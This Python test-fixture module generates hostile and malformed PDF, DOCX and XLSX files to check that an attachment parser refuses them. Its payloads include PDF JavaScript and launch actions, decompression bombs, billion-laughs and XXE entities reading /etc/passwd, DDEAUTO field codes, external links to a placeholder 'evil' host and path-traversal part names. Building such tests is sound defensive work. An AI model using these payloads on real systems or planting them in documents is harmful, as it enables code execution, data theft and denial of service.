"""Hostile and broken documents, built in code family by family. Source: T38, T39; ADR-0031 §1."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import typst
import xlsxwriter
from docx import Document

from lianxin.attachments.testing import CANARY
from support.hostile_photos import SCRIPT, Made, cut

ACTING = (
    b"/S /JavaScript /JS (x)", b"/S /Launch /F (cmd.exe)", b"/EmbeddedFiles 2 0 R", b"/XFA 3 0 R", b"/S /SubmitForm /F (http://x)",
    b"/S /GoToR /F (a.pdf)", b"/S /GoToE", b"/S /ImportData", b"/S /Rendition", b"/RichMedia", b"/JS 4 0 R", b"/EmbeddedFile",
)  # fmt: skip
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
RELS = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)


def pdf() -> bytes:
    """A page of words."""
    return typst.compile("= 报告\n道路管护".encode())


def office(kind: str) -> bytes:
    """A text or a workbook as the usual libraries make them, with an author."""
    out = io.BytesIO()
    if kind == "docx":
        text = Document()
        text.core_properties.author = CANARY
        text.add_paragraph("乡村道路管护情况报告")
        text.add_table(2, 3).cell(0, 0).text = "事项"
        text.save(out)
    else:
        book = xlsxwriter.Workbook(out, {"in_memory": True})
        sheet = book.add_worksheet("台账")
        for n, word in enumerate(("姓名", "电话", "单位", "=1+1", "2026-03-03")):
            sheet.write(0, n, word)
            sheet.write(1, n, n)
        book.close()
    return out.getvalue()


def repacked(
    data: bytes,
    change: Callable[[str, bytes], bytes] = lambda _name, body: body,
    more: dict[str, bytes] | None = None,
    **how: int,
) -> bytes:
    """The package with every part passed through `change`, and `more` parts."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as given,
        zipfile.ZipFile(out, "w", how.get("method", zipfile.ZIP_DEFLATED)) as made,
    ):
        for part in given.infolist():
            made.writestr(part.filename, change(part.filename, given.read(part)))
        for name, body in (more or {}).items():
            made.writestr(name, body)
    return out.getvalue()


def pdfs() -> Made:
    """All that acts in four spellings; broken off; nested without end; something before and behind."""
    plain = pdf()
    yield from cut("pdf", plain, 12)
    frame = b"%%PDF-1.7\n1 0 obj\n<</Type /Catalog /A <<%s>>>>\nendobj\ntrailer <</Root 1 0 R>>\n%%%%EOF\n"
    for acting in ACTING:
        first, _, rest = acting[1:].partition(b" ")
        name = rest.split(b" ")[0][1:] if first == b"S" else first
        hexed = acting.replace(name, b"#%02x" % name[0] + name[1:])
        yield f"pdf, {acting.decode()}", frame % acting, "refused"
        yield f"pdf, {hexed.decode()}", frame % hexed, "refused"
        for packed in (acting, zlib.compress(acting)):
            head = b"/Filter /FlateDecode" if packed is not acting else b""
            stream = b"2 0 obj\n<</Type /ObjStm %s>>\nstream\n%s\nendstream\nendobj\n" % (
                head,
                b"5 0 <<" + packed + b">>" if not head else zlib.compress(b"5 0 <<" + acting + b">>"),
            )
            yield (
                f"pdf, {acting.decode()} in a stream{' packed' if head else ''}",
                b"%PDF-1.7\n" + stream + b"%%EOF",
                "refused",
            )
    bomb = zlib.compress(bytes(80_000_000), 9)
    yield (
        "pdf, objects that swell",
        b"%PDF-1.7\n2 0 obj\n<</Type /ObjStm /Filter /FlateDecode>>\nstream\n" + bomb + b"\nendstream\n%%EOF",
        "refused",
    )
    many = (
        b"2 0 obj\n<</Type /ObjStm /Filter /FlateDecode>>\nstream\n"
        + zlib.compress(bytes(900_000))
        + b"\nendstream\nendobj\n"
    )
    yield "pdf, many objects that swell", b"%PDF-1.7\n" + many * 200 + b"%%EOF", "refused"
    yield "pdf, a million brackets", frame % (b"[" * 1_000_000), ""
    yield "pdf, half a million streams", b"%PDF-1.7\n" + b"stream\n" * 500_000 + b"%%EOF", ""
    yield "pdf, escapes without end", b"%PDF-1.7\n" + b"#41" * 2_000_000 + b"%%EOF", ""
    yield "pdf, locked", frame % b"/Encrypt 9 0 R", "refused"
    yield "pdf, no end", plain.replace(b"%%EOF", b""), "refused"
    for name, junk in {
        "a page": SCRIPT,
        "an archive": office("docx"),
        "a program": b"MZ" + bytes(200),
    }.items():
        yield f"pdf with {name} before it", junk[:900] + plain, ""
        yield f"pdf with {name} behind it", plain + junk, ""


def packages(kind: str) -> Made:
    """Parts that run, reach outside, swell or lie; the archive itself spoilt."""
    plain, main, rels = office(kind), MAIN[kind], RELS[kind]
    folder = main.partition("/")[0]
    yield from cut(kind, plain, 10)
    for part in (
        "vbaProject.bin", "VBAPROJECT.BIN", "embeddings/oleObject1.bin", "activeX/activeX1.xml", "externalLinks/externalLink1.xml",
        "ctrlProps/ctrlProp1.xml", "macrosheets/sheet1.xml", "printerSettings/../a.bin", "media/program.bin",
    ):  # fmt: skip
        yield f"{kind} with {part}", repacked(plain, more={f"{folder}/{part}": b"<x/>"}), "refused"
    for name in ("../out.xml", "customUI/customUI.xml", "a\\..\\out.xml", "word/../../out.xml"):
        yield f"{kind} with a part {name}", repacked(plain, more={name: b"<x/>"}), "refused"
    for name in (
        "/abs.xml",
        "a" * 60_000 + ".xml",
        "名" * 900 + ".xml",
        "con.xml",
        "a\tb.xml",
        " .xml",
        "-.xml",
    ):
        yield f"{kind} with a part {name[:12]!r}", repacked(plain, more={name: b"<x/>"}), ""
    twice = io.BytesIO(plain)
    with zipfile.ZipFile(twice, "a") as made, _quiet():
        made.writestr(main, b"<x/>")
    yield f"{kind}, its main part twice", twice.getvalue(), "refused"
    yield from _words(kind, plain, main, rels)
    yield from _archives(kind, plain, main)


def _words(kind: str, plain: bytes, main: str, rels: str) -> Made:
    def within(part: str, change: Callable[[bytes], bytes]) -> bytes:
        return repacked(plain, lambda name, body: change(body) if name == part else body)

    def begun(words: str) -> Callable[[bytes], bytes]:
        return lambda body: body.replace(b"?>", b"?>" + words.encode(), 1)

    yield f"{kind}, a billion laughs", within(main, begun(LAUGHS)), "refused"
    for coding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        sign = f'<?xml version="1.0" encoding="{coding[:6].upper()}"?>'
        yield (
            f"{kind}, a billion laughs in {coding}",
            within(main, lambda _b, s=sign, c=coding: (s + LAUGHS + "<a>&l11;</a>").encode(c)),
            "refused",
        )
    yield (
        f"{kind}, laughs in UTF-7",
        within(main, lambda _b: b'<?xml version="1.0" encoding="UTF-7"?>' + LAUGHS.encode("utf-7")),
        "refused",
    )
    yield (
        f"{kind}, a foreign entity",
        within(main, begun('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
        "refused",
    )
    yield f"{kind}, a hundred thousand deep", within(main, lambda _b: b"<a>" * 100_000), ""
    yield f"{kind}, a million attributes", within(main, lambda _b: b"<a " + b"b='' " * 1_000_000 + b"/>"), ""
    for mode in (
        'TargetMode="External"',
        "targetmode='EXTERNAL'",
        'TargetMode="E&#120;ternal"',
        'TargetMode = "External"',
    ):
        for type_ in ("attachedTemplate", "oleObject", "image", "frame"):
            link = f'<Relationship Id="r9" Type="x/{type_}" Target="http://evil" {mode}/></Relationships>'.encode()
            yield (
                f"{kind}, outside by {type_}, {mode}",
                within(rels, lambda body, new=link: body.replace(b"</Relationships>", new)),
                "refused",
            )
    if kind == "docx":
        run = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s</w:p></w:body>'
        for name, field in {
            "DDE": b"<w:r><w:instrText> DDEAUTO c:\\cmd </w:instrText></w:r>",
            "DDE in pieces": b"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r>",
            "DDE as numbers": b"<w:r><w:instrText> &#68;DEAUTO c:\\cmd </w:instrText></w:r>",
            "DDE in one": b'<w:fldSimple w:instr=" DDEAUTO c:\\cmd "/>',
            "INCLUDETEXT": b"<w:r><w:instrText> INCLUDETEXT http://evil </w:instrText></w:r>",
            "INCLUDEPICTURE": b"<w:r><w:instrText xml:space='preserve'> INCLUDEPICTURE http://evil </w:instrText></w:r>",
        }.items():
            yield (
                f"docx, {name}",
                within(main, lambda body, new=field: body.replace(b"</w:body>", run % new)),
                "refused",
            )


def _archives(kind: str, plain: bytes, main: str) -> Made:
    yield f"{kind} that swells to 130 MB", repacked(plain, more={"x/bomb.xml": bytes(130_000_000)}), "refused"
    yield f"{kind} that swells to 119 MB", repacked(plain, more={"x/bomb.xml": bytes(115_000_000)}), ""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("b", bytes(100_000_000))
    yield (
        f"{kind} with archives in it",
        repacked(plain, more={f"{n}.zip": inner.getvalue() for n in range(20)}),
        "",
    )
    yield (
        f"{kind} of ten thousand parts",
        repacked(plain, more={f"x/{n}": b"" for n in range(10_000)}),
        "refused",
    )
    ends = plain.rindex(b"PK\x05\x06")
    first = plain.index(b"PK\x01\x02")
    for name, at, value in (
        ("locked", first + 8, b"\x01\x00"), ("packed as 99", first + 10, b"\x63\x00"), ("packed as 14", first + 10, b"\x0e\x00"),
        ("a part of 4 GB", first + 24, b"\xfe\xff\xff\xff"), ("a part of nothing", first + 24, b"\0\0\0\0"), ("a wrong sum", first + 16, b"\0\0\0\0"),
        ("a part far away", first + 42, b"\xf0\xff\xff\x7f"), ("no parts", ends + 10, b"\0\0"), ("65,535 parts", ends + 10, b"\xff\xff"),
        ("a list of nought", ends + 12, b"\0\0\0\0"), ("a list elsewhere", ends + 16, struct.pack("<I", 7)), ("a list far away", ends + 16, b"\xf0\xff\xff\x7f"),
    ):  # fmt: skip
        yield f"{kind}, {name}", plain[:at] + value + plain[at + len(value) :], ""
    yield (
        f"{kind} without its main part",
        repacked(plain, lambda name, body: body).replace(main.encode(), main[:-1].encode() + b"_"),
        "refused",
    )
    yield f"{kind} with a page before it", SCRIPT + plain, "refused"
    yield f"{kind} with a page behind it", plain + SCRIPT, ""
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield f"{kind} packed as {method}", repacked(plain, method=method), ""


def _quiet() -> object:
    import warnings

    return warnings.catch_warnings(action="ignore")
